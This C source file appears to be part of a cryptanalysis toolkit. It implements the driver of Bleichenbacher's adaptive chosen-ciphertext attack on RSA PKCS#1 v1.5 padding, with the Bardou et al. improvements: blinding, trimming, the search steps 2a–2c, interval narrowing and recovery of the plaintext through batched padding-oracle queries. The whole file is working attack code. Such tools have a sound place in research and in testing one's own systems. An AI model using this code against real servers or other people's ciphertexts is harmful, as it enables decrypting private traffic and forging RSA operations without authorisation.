/* ts_bleich: Bleichenbacher's adaptive chosen-ciphertext attack (1998),
 * with the improvements of Bardou et al. (CRYPTO 2012); the driver: step 1
 * (blinding), then trimming, step 2a, and steps 3 and 2b/2c in turn until
 * M holds one value, then step 4. Its parts, one module that alone shares
 * mpz_t (see ts_bleich_state.h): ts_bleich_state (the shared state),
 * ts_bleich_batch (queries in batches over threads), ts_bleich_interval
 * (the set M, step 3), ts_bleich_trim (trimming M0), ts_bleich_search
 * (steps 2a, 2b, 2c). */
#include "crypto/attack/ts_bleich.h"

#include "crypto/attack/internal/ts_bleich_state.h"
#include "crypto/attack/ts_bleich_batch.h"
#include "crypto/attack/ts_bleich_interval.h"
#include "crypto/attack/ts_bleich_search.h"
#include "crypto/attack/ts_bleich_trim.h"

/* Step 1: c0 = c s0^e conforming; s0 = 1 when c already is. Blinding
 * values are drawn a batch at a time. */
static ts_err blind(ts_bleich_state *st, const mpz_t c, mpz_t s0)
{
    const ts_bleich_cfg *cfg = st->cfg;
    mpz_set(st->c0, c);
    mpz_set_ui(s0, 1);
    mpz_set_ui(st->cand[0], 1);
    TS_GUARD(ts_bleich_batch(st, c, 1));
    if (st->ans[0]) {
        return TS_OK;
    }
    TS_ENSURE(cfg->blind && cfg->rng != NULL, TS_ERR_PADDING);
    st->p.phase = N_("blinding");
    for (;;) {
        for (size_t i = 0; i < TS_BLEICH_BATCH; i++) {
            do {
                ts_rng_bytes(cfg->rng, st->buf, st->k);
                ts_bleich_from_bytes(st->cand[i], st->buf, st->k);
                mpz_mod(st->cand[i], st->cand[i], st->n);
            } while (mpz_cmp_ui(st->cand[i], 1) <= 0);
        }
        TS_GUARD(ts_bleich_batch(st, c, TS_BLEICH_BATCH));
        size_t hit = ts_bleich_first_yes(st, TS_BLEICH_BATCH);
        if (hit < TS_BLEICH_BATCH) {
            mpz_set(s0, st->cand[hit]);
            mpz_powm(st->c0, s0, st->e, st->n);
            mpz_mul(st->c0, st->c0, c);
            mpz_mod(st->c0, st->c0, st->n);
            return TS_OK;
        }
    }
}

static ts_err attack(ts_bleich_state *st, const mpz_t c, mpz_t result)
{
    mpz_t s0, s, lo, hi;
    mpz_inits(s0, s, lo, hi, NULL);
    st->p.phase = "1";
    ts_err err = blind(st, c, s0);
    mpz_set(lo, st->B2);
    mpz_sub_ui(hi, st->B3, 1);
    if (err == TS_OK) {
        err = ts_bleich_add_interval(st, lo, hi);
    }
    if (err == TS_OK && !st->cfg->plain) {
        err = ts_bleich_trim(st);
    }
    if (err == TS_OK) {
        st->p.phase = "2a";
        ts_bleich_report(st);
        err = ts_bleich_step_2a(st, s);
    }
    bool done = false;
    while (err == TS_OK && !done) {
        st->p.iteration++;
        err = ts_bleich_narrow(st, s);
        ts_bleich_report(st);
        if (err != TS_OK || (st->nm == 1 && mpz_cmp(st->m[0].a, st->m[0].b) == 0)) {
            break;
        }
        st->p.phase = st->nm > 1 ? "2b" : "2c";
        err = st->nm > 1 ? ts_bleich_step_2b(st, s) : ts_bleich_step_2c(st, s, &done);
    }
    if (err == TS_OK && mpz_invert(s0, s0, st->n) == 0) {
        err = TS_ERR_RSA_KEY;
    }
    if (err == TS_OK) { /* step 4: m = a s0^-1 mod n */
        mpz_mul(result, st->m[0].a, s0);
        mpz_mod(result, result, st->n);
        st->p.phase = N_("done");
        ts_bleich_report(st);
    }
    mpz_clears(s0, s, lo, hi, NULL);
    return err;
}

ts_err ts_bleich_attack(const ts_bleich_cfg *cfg, const uint8_t *c, size_t c_len, ts_buf *out,
                        uint64_t *queries)
{
    TS_ENSURE(cfg != NULL && cfg->oracle != NULL && cfg->n != NULL && cfg->e != NULL && c != NULL &&
                  out != NULL,
              TS_ERR_ARG);
    ts_bleich_state *st = ts_bleich_state_new(cfg);
    TS_ENSURE(st != NULL, TS_ERR_NOMEM);
    ts_err err = ts_bleich_state_bounds(st);
    mpz_t cc, m;
    mpz_inits(cc, m, NULL);
    ts_bleich_from_bytes(cc, c, c_len);
    if (err == TS_OK && mpz_cmp(cc, st->n) >= 0) {
        err = TS_ERR_RSA_RANGE;
    }
    if (err == TS_OK) {
        ts_bleich_pool_start(st);
        err = attack(st, cc, m);
        ts_bleich_pool_stop(st);
    }
    if (err == TS_OK) {
        ts_bleich_to_fixed(m, st->buf, st->k);
        err = ts_buf_write_bytes(out, st->buf, st->k);
    }
    if (queries != NULL) {
        *queries = st->p.queries;
    }
    mpz_clears(cc, m, NULL);
    ts_bleich_state_free(st);
    return err;
}
